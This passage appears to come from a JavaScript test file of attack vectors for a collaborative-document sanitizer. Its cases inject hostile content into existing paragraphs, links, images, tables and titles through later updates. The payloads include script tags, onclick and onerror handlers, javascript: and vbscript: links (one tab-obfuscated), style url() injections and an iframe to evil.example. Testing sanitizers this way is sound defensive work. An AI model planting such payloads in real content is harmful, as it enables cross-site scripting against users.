add('exotic', 'body viewed as Y.Map: root entry', (doc, m) => {
  viaView(doc, (v) => { v.getMap('body').set('innerHTML', `<script>${m}</script>`) })
})

// ---------------------------------------------------------------------------
// 11. Hostile content arriving in a LATER update, targeting existing content
// ---------------------------------------------------------------------------

add('later', 'later: onclick set on an existing p', (doc, m, ctx) => { ctx.setAttribute('onclick', `alert("${m}")`) },
  (doc) => appendWithAttrs(doc, 'p', {}, 'existing paragraph'))
add('later', 'later: javascript: href set on an existing a', (doc, m, ctx) => { ctx.setAttribute('href', `javascript:alert("${m}")`) },
  (doc) => appendWithAttrs(doc, 'a', { href: 'https://ok.example/' }, 'existing link'))
add('later', 'later: img src replaced with javascript:', (doc, m, ctx) => { ctx.setAttribute('src', `java\tscript:alert("${m}")`) },
  (doc) => appendWithAttrs(doc, 'img', { src: 'https://ok.example/a.png', alt: 'a' }))
add('later', 'later: bad style set on an existing div', (doc, m, ctx) => { ctx.setAttribute('style', `color: red; background: url(${m})`) },
  (doc) => appendWithAttrs(doc, 'div', { style: 'color: blue' }, 'existing div'))
add('later', 'later: allowed title attribute overwritten with an object', (doc, m, ctx) => { ctx.setAttribute('title', { evil: m }) },
  (doc) => appendWithAttrs(doc, 'p', { title: 'fine' }, 'existing'))
add('later', 'later: script inserted into an existing p', (doc, m, ctx) => { ctx.insert(ctx.length, [el('script', {}, [`alert("${m}")`])]) },
  (doc) => appendWithAttrs(doc, 'p', {}, 'existing paragraph'))
add('later', 'later: iframe inserted deep into an existing nested structure', (doc, m, ctx) => { ctx.insert(0, [el('iframe', { src: `https://evil.example/${m}` })]) },
  (doc) => { const li = el('li', {}, ['item']); append(doc, el('div', {}, [el('ul', {}, [li])])); return li })
add('later', 'later: existing text formatted with a javascript: link', (doc, m, ctx) => { ctx.format(0, 8, { a: { href: `javascript:alert("${m}")` } }) },
  (doc) => para(doc, [['existing text to format', {}]]).text)
add('later', 'later: existing text formatted with an unknown mark', (doc, m, ctx) => { ctx.format(2, 5, { marquee: { behavior: m } }) },
  (doc) => para(doc, [['existing text to format', {}]]).text)
add('later', 'later: existing span mark re-formatted with a bad style', (doc, m, ctx) => { ctx.format(0, 4, { span: { style: `behavior: url(${m})` } }) },
  (doc) => para(doc, [['styled', { span: { style: 'color: red' } }], [' rest', {}]]).text)
add('later', 'later: text inserted into existing text with a bad mark', (doc, m, ctx) => { ctx.insert(3, 'INSERTED', { a: { href: `vbscript:${m}` } }) },
  (doc) => para(doc, [['existing', {}]]).text)
add('later', 'later: embed inserted into existing text', (doc, m, ctx) => { ctx.insertEmbed(2, { evil: m }) },
  (doc) => para(doc, [['existing', {}]]).text)
add('later', 'later: attribute set on an existing XmlText', (doc, m, ctx) => { ctx.setAttribute('onmouseover', `alert("${m}")`) },
  (doc) => para(doc, [['existing', {}]]).text)
add('later', 'later: Y.Map child inserted into an existing td', (doc, m, ctx) => { const map = new Y.Map(); map.set('v', m); ctx.insert(ctx.length, [map]) },
  (doc) => { const td = el('td', {}, ['cell']); append(doc, el('table', {}, [el('tr', {}, [td])])); return td })
add('later', 'later: existing title text formatted', (doc, m, ctx) => { titleOf(doc).format(0, 3, { a: { href: `https://ok.example/${m}` } }) },
  (doc) => { const t = titleOf(doc); t.insert(t.length, 'existing title ') })
add('later', 'later: foreign root written again after the server emptied it', (doc, m) => { doc.getMap('evil-again').set('second', m) },
  (doc) => { doc.getMap('evil-again').set('first', 'no marker here') })
add('later', 'later: embed inserted into the existing title', (doc, m) => { titleOf(doc).insertEmbed(0, { evil: m }) },
  (doc) => { const t = titleOf(doc); t.insert(t.length, 'title before embed ') })
add('later', 'later: onerror set on an img created earlier inside a figure', (doc, m, ctx) => { ctx.setAttribute('onerror', `alert("${m}")`) },
  (doc) => { const img = el('img', { src: 'https://ok.example/b.png', alt: 'b' }); append(doc, el('figure', {}, [img, el('figcaption', {}, ['cap'])])); return img })

export default vectors
